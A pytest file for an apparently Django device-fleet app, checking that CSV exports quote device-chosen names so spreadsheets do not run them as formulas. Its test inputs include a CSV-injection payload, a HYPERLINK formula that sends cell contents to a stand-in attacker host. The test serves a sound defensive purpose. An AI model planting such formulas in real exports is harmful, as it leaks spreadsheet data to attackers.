"""CSV exports carry names devices chose themselves: a spreadsheet must not run them as formulas."""

import csv
import io

import pytest

from devices.models import ActionDelivery, DeviceAction
from tests.factories import Personas, make_device

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"update")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("name", FORMULAS)
def test_cells_that_a_spreadsheet_would_evaluate_are_quoted(client, name):
    p = Personas()
    device = make_device(p.fleet, name=name)
    action = DeviceAction.objects.create(
        organization=p.org, fleet=p.fleet, fleet_name=p.fleet.name, actor_name=name, kind="reboot",
        scope="device", device=device, summary=name,
    )  # fmt: skip
    ActionDelivery.objects.create(
        action=action, device=device, device_uuid=device.uuid, device_name=name, state="failed", reason=name
    )
    client.force_login(p.observer)
    outcomes = rows(client.get(f"/fleets/{p.fleet.pk}/activity/{action.pk}/", {"format": "csv"}))
    activity = rows(client.get(f"/fleets/{p.fleet.pk}/activity/", {"format": "csv"}))
    cells = outcomes[1] + activity[1]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{name}" in outcomes[1]  # kept, readable, as text


def test_ordinary_values_are_untouched(client):
    p = Personas()
    device = make_device(p.fleet, name="pump-3")
    action = DeviceAction.objects.create(
        organization=p.org, fleet=p.fleet, fleet_name=p.fleet.name, actor_name="ann", kind="reboot",
        scope="device", device=device, target_count=-0,
    )  # fmt: skip
    ActionDelivery.objects.create(action=action, device=device, device_uuid=device.uuid, device_name="pump-3",
                                  state="succeeded")  # fmt: skip
    client.force_login(p.observer)
    outcomes = rows(client.get(f"/fleets/{p.fleet.pk}/activity/{action.pk}/", {"format": "csv"}))
    assert outcomes[1][:3] == [device.uuid, "pump-3", "succeeded"]
